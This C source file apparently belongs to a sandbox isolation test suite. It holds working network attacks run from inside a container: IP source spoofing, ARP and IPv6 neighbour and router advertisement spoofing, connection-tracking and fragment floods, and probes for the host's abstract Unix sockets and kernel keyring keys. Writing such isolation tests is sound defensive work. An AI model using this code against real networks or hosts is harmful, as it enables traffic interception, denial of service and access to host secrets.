/* The network: sources that are not ours, and sockets of the host's. */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/icmp6.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <unistd.h>

/* What it sends only the receiver can judge: "won" means that it left. */

static uint16_t sum(const void *data, size_t len, uint32_t start)
{
	const uint16_t *p = data;
	for (; len > 1; len -= 2)
		start += *p++;
	if (len)
		start += *(const uint8_t *)p;
	while (start >> 16)
		start = (start & 0xffff) + (start >> 16);
	return (uint16_t)~start;
}

/* spoof SOURCE DESTINATION PORT: one UDP packet from an address of our choice. */
static void spoof4(char **argv)
{
	struct {
		struct iphdr ip;
		struct udphdr udp;
		char text[8];
	} p = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP},
	       .udp = {.source = htons(4000), .len = htons(16)},
	       .text = "spoofed"};
	struct sockaddr_in to = {.sin_family = AF_INET};
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0)
		lost("raw socket: %s", strerror(errno));
	if (inet_pton(AF_INET, argv[0], &p.ip.saddr) != 1 ||
	    inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		broken("addresses");
	p.ip.daddr = to.sin_addr.s_addr;
	p.ip.tot_len = htons(sizeof(p));
	p.udp.dest = htons((uint16_t)number(argv[2]));
	if (sendto(s, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		lost("sendto: %s", strerror(errno));
	won("sent");
}

static void spoof6(char **argv)
{
	struct {
		struct ip6_hdr ip;
		struct udphdr udp;
		char text[8];
	} p = {.ip.ip6_plen = htons(16),
	       .ip.ip6_nxt = IPPROTO_UDP,
	       .ip.ip6_hlim = 64,
	       .udp = {.source = htons(4000), .len = htons(16)},
	       .text = "spoofed"};
	struct sockaddr_in6 to = {.sin6_family = AF_INET6};
	int s = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
	if (s < 0)
		lost("raw socket: %s", strerror(errno));
	p.ip.ip6_vfc = 6 << 4;
	if (inet_pton(AF_INET6, argv[0], &p.ip.ip6_src) != 1 ||
	    inet_pton(AF_INET6, argv[1], &to.sin6_addr) != 1)
		broken("addresses");
	p.ip.ip6_dst = to.sin6_addr;
	p.udp.dest = htons((uint16_t)number(argv[2]));
	/* The pseudo header: both addresses, the length, the protocol. */
	uint32_t start = htons(16) + htons(IPPROTO_UDP);
	const uint16_t *a = (const uint16_t *)&p.ip.ip6_src;
	for (int i = 0; i < 16; i++)
		start += a[i];
	p.udp.check = sum(&p.udp, 16, start);
	if (sendto(s, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		lost("sendto: %s", strerror(errno));
	won("sent");
}

static void spoof(char **argv)
{
	(strchr(argv[0], ':') ? spoof6 : spoof4)(argv);
}

static const uint8_t pair_mac[6] = {2, 'n', 'g', 0, 0, 1}, evil_mac[6] = {2, 'e', 'v', 'i', 'l', 0};

static void send_frame(const void *frame, size_t len, uint16_t type)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(type)};
	int s = socket(AF_PACKET, SOCK_RAW, 0);
	if (s < 0)
		lost("packet socket: %s", strerror(errno));
	to.sll_ifindex = (int)if_nametoindex("eth0");
	if (!to.sll_ifindex)
		broken("eth0");
	if (sendto(s, frame, len, 0, (struct sockaddr *)&to, sizeof(to)) != (ssize_t)len)
		lost("sendto: %s", strerror(errno));
	won("sent");
}

/* arp ADDRESS: "that is me", to everybody. */
static void arp(char **argv)
{
	struct {
		struct ethhdr eth;
		uint16_t hw, proto;
		uint8_t hlen, plen;
		uint16_t op;
		uint8_t smac[6], saddr[4], tmac[6], taddr[4];
	} __attribute__((packed)) f = {.eth.h_proto = htons(ETH_P_ARP),
				       .hw = htons(1),
				       .proto = htons(ETH_P_IP),
				       .hlen = 6,
				       .plen = 4,
				       .op = htons(2)};
	memset(f.eth.h_dest, 0xff, 6);
	memcpy(f.eth.h_source, evil_mac, 6);
	memcpy(f.smac, evil_mac, 6);
	memset(f.tmac, 0xff, 6);
	if (inet_pton(AF_INET, argv[0], f.saddr) != 1)
		broken("%s", argv[0]);
	memcpy(f.taddr, f.saddr, 4);
	send_frame(&f, sizeof(f), ETH_P_ARP);
}

/* neighbour SOURCE TARGET: the same in IPv6, an unsolicited advertisement that overrides; router
 * SOURCE: "I am your default router". */
static void advertise(const char *source, const char *target)
{
	struct {
		struct ethhdr eth;
		struct ip6_hdr ip;
		union {
			struct nd_neighbor_advert na;
			struct nd_router_advert ra;
		};
		uint8_t pad[8];
		uint8_t opt[8];
	} __attribute__((packed))
	f = {.eth.h_proto = htons(ETH_P_IPV6), .ip.ip6_nxt = IPPROTO_ICMPV6, .ip.ip6_hlim = 255};
	size_t body = target ? sizeof(f.na) : sizeof(struct nd_router_advert);
	size_t len = body + (target ? 8 : 0);
	memcpy(f.eth.h_dest, pair_mac, 6);
	memcpy(f.eth.h_source, pair_mac, 6);
	f.ip.ip6_vfc = 6 << 4;
	f.ip.ip6_plen = htons((uint16_t)len);
	if (inet_pton(AF_INET6, source, &f.ip.ip6_src) != 1 ||
	    inet_pton(AF_INET6, "ff02::1", &f.ip.ip6_dst) != 1)
		broken("%s", source);
	if (target) {
		f.na.nd_na_type = ND_NEIGHBOR_ADVERT;
		f.na.nd_na_flags_reserved = ND_NA_FLAG_OVERRIDE;
		if (inet_pton(AF_INET6, target, &f.na.nd_na_target) != 1)
			broken("%s", target);
		uint8_t *opt = (uint8_t *)&f.na + sizeof(f.na);
		opt[0] = ND_OPT_TARGET_LINKADDR;
		opt[1] = 1;
		memcpy(opt + 2, evil_mac, 6);
	} else {
		f.ra.nd_ra_type = ND_ROUTER_ADVERT;
		f.ra.nd_ra_curhoplimit = 64;
		f.ra.nd_ra_router_lifetime = htons(1800);
	}
	uint32_t start = htons((uint16_t)len) + htons(IPPROTO_ICMPV6);
	uint16_t words[16];
	memcpy(words, &f.ip.ip6_src, sizeof(words));
	for (int i = 0; i < 16; i++)
		start += words[i];
	uint8_t copy[64];
	memcpy(copy, (uint8_t *)&f + sizeof(f.eth) + sizeof(f.ip), len);
	uint16_t check = sum(copy, len, start);
	memcpy((uint8_t *)&f + sizeof(f.eth) + sizeof(f.ip) + 2, &check, 2);
	send_frame(&f, sizeof(f.eth) + sizeof(f.ip) + len, ETH_P_IPV6);
}

static void neighbour(char **argv)
{
	advertise(argv[0], argv[1]);
}

static void router(char **argv)
{
	advertise(argv[0], NULL);
}

/* abstract NAME: a unix socket of the host's that has no place in any file tree. */
static void abstract(char **argv)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	size_t len = strlen(argv[0]);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (s < 0)
		broken("socket");
	memcpy(sa.sun_path + 1, argv[0], len);
	if (connect(s, (struct sockaddr *)&sa,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len)) == 0)
		won("%s", argv[0]);
	lost("%s: %s", argv[0], strerror(errno));
}

/* key NAME: a key of the host's, by any keyring that we got along. */
static void key(char **argv)
{
	static char keys[1 << 16];
	long id = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3 /* session */, "user", argv[0], 0);
	if (id > 0)
		won("key %ld", id);
	id = syscall(SYS_request_key, "user", argv[0], NULL, 0);
	if (id > 0)
		won("key %ld", id);
	if (slurp("/proc/keys", keys, sizeof(keys)) > 0 && strstr(keys, argv[0]))
		won("/proc/keys");
	lost("no key: %s", strerror(errno));
}

/* session COMMAND …: on the host, with a session keyring of its own; addkey NAME: puts one there. */
static void session(char **argv)
{
	if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, NULL) < 0)
		broken("a session keyring");
	execv(argv[0], argv);
	broken("%s", argv[0]);
}

static void addkey(char **argv)
{
	if (syscall(SYS_add_key, "user", argv[0], "x", 1, -3 /* session */) < 0)
		broken("add_key");
	won("%s", argv[0]);
}

/* flows ADDRESS COUNT: so many connections at once, to 4096 addresses from that one on; each packet is
 * a new one for who tracks them. */
static void flows(char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	long count = number(argv[1]), sent = 0;
	struct in_addr first;
	if (inet_pton(AF_INET, argv[0], &first) != 1)
		broken("%s", argv[0]);
	while (sent < count) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		if (s < 0)
			broken("socket");
		for (int i = 0; i < 30000 && sent < count; i++) {
			to.sin_port = htons((uint16_t)(1024 + i));
			to.sin_addr.s_addr = htonl(ntohl(first.s_addr) + (uint32_t)(sent % 4096));
			/* Refusals of earlier ones come back here. */
			if (sendto(s, "x", 1, 0, (struct sockaddr *)&to, sizeof(to)) == 1)
				sent++;
		}
	}
	won("%ld sent", sent);
}

/* ports ADDRESS PORT COUNT: one packet there from each of so many ports; what is tracked outlives the
 * socket. */
static void ports(char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET,
				 .sin_port = htons((uint16_t)number(argv[1]))};
	long count = number(argv[2]), sent = 0;
	if (inet_pton(AF_INET, argv[0], &to.sin_addr) != 1)
		broken("%s", argv[0]);
	for (long i = 0; i < count; i++) {
		struct sockaddr_in from = {.sin_family = AF_INET,
					   .sin_port = htons((uint16_t)(65535 - i))};
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		if (s < 0 || bind(s, (struct sockaddr *)&from, sizeof(from)) < 0)
			broken("a socket");
		sent += sendto(s, "x", 1, 0, (struct sockaddr *)&to, sizeof(to)) == 1;
		close(s);
	}
	won("%ld sent", sent);
}

/* pieces SOURCE DESTINATION COUNT: the beginnings of so many packets, whose ends never come. */
static void pieces(char **argv)
{
	static struct {
		struct iphdr ip;
		char text[1400];
	} p = {.ip = {.version = 4, .ihl = 5, .ttl = 64}};
	struct sockaddr_in to = {.sin_family = AF_INET};
	long count = number(argv[2]), sent = 0;
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0)
		lost("raw socket: %s", strerror(errno));
	if (inet_pton(AF_INET, argv[0], &p.ip.saddr) != 1 ||
	    inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		broken("addresses");
	p.ip.daddr = to.sin_addr.s_addr;
	p.ip.tot_len = htons(sizeof(p));
	p.ip.protocol = IPPROTO_UDP;
	p.ip.frag_off = htons(0x2000); /* more are to come */
	for (long i = 0; i < count; i++) {
		p.ip.id = htons((uint16_t)(i + 1));
		sent += sendto(s, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) > 0;
	}
	if (!sent)
		broken("sendto");
	won("%ld sent", sent);
}

const struct attack network_attacks[] = {
    {"spoof", 3, spoof},     {"arp", 1, arp},           {"neighbour", 2, neighbour},
    {"router", 1, router},   {"abstract", 1, abstract}, {"key", 1, key},
    {"session", 1, session}, {"addkey", 1, addkey},     {"flows", 2, flows},
    {"ports", 3, ports},     {"pieces", 3, pieces},     {0},
};
